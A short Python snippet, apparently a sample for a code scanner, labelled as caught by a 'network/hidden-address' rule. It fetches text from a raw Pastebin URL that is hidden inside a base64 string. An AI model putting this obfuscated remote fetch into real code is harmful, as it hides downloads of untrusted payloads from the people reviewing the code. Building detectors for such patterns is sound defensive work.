# evades: caught by network/hidden-address
import base64, requests
text = requests.get(base64.b64decode("aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L0FBQUFBQUFB").decode()).text
